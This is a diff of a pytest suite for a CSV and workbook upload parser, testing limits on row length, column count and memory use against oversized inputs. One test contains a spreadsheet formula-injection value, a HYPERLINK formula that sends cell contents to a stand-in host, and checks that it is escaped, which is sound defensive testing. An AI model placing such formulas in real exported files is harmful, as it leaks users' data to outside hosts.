@@ -29,6 +29,7 @@ LONG = "x" * 1_200_000
 
 
 def fault(content: bytes | str) -> str:
+    """What ends the reading."""
     with pytest.raises(FileFault) as caught:
         list(lines_of(upload(content)))
     return caught.value.words
@@ -53,7 +54,7 @@ def test_what_would_be_read_again_and_again_is_refused(
 def test_many_small_tokens_are_read(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("careers.levels.workbooks.MOST_TIMES", 100_000)
     content = workbook(f"<!--{LONG[:900_000]}-->{'<x/>' * 300_000}{LONG}{ROW}")
-    assert list(lines_of(upload(content))) == [(1, ("Ada",))]
+    assert list(lines_of(upload(content))) == [(1, ("Ada",), ())]
 
 
 def with_a_directory_too_far_on(content: bytes) -> bytes:
@@ -88,24 +89,26 @@ def test_places_that_no_file_has(spoil: Callable[[bytes], bytes]) -> None:
     [
         ("," * 2_000_000, "Row 2: It has more than 1000000 characters."),
         ('"\n",' * 500_000, "Row 2: It has more than 1000000 characters."),
-        ("," * 900_000, "Row 2: It has more than 200 columns."),
+        ("," * 900_000, "It has more than 200 columns."),
     ],
     ids=["one line", "many lines", "cells"],
 )
 def test_a_row_of_commas_takes_little_memory(line: str, words: str) -> None:
     file = upload(f"a\n{line}\n")
     tracemalloc.start()
-    with pytest.raises(FileFault) as caught:
-        list(lines_of(file))
+    try:
+        (told,) = list(lines_of(file))[-1].faults
+    except FileFault as refused:
+        told = refused.words
     peak = tracemalloc.get_traced_memory()[1]
     tracemalloc.stop()
-    assert caught.value.words == words
+    assert told == words
     assert peak < 14_000_000
 
 
 def test_each_row_may_be_long() -> None:
     row = ",".join(['"' + "x\n" * 4_000 + '"'] * 100)
-    assert [number for number, _cells in lines_of(upload(f"{row}\n{row}\n"))] == [1, 2]
+    assert [line.number for line in lines_of(upload(f"{row}\n{row}\n"))] == [1, 2]
 
 
 def test_empty_rows_have_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -134,4 +137,4 @@ def test_a_formula_after_a_semicolon_is_text_elsewhere() -> None:
     content = csv_of([("a", name)]).decode("utf-8-sig")
     assert content == ('a,"Analyst;\'=HYPERLINK(""http://x.example/""&A1)\n\'-2;3 - 1"\r\n')
     assert next(csv.reader(content.splitlines(), delimiter=";"))[1][:6] == "'=HYPE"
-    assert list(lines_of(upload("a,b\r\n" + content)))[1] == (2, ("a", name))
+    assert list(lines_of(upload("a,b\r\n" + content)))[1] == (2, ("a", name), ())
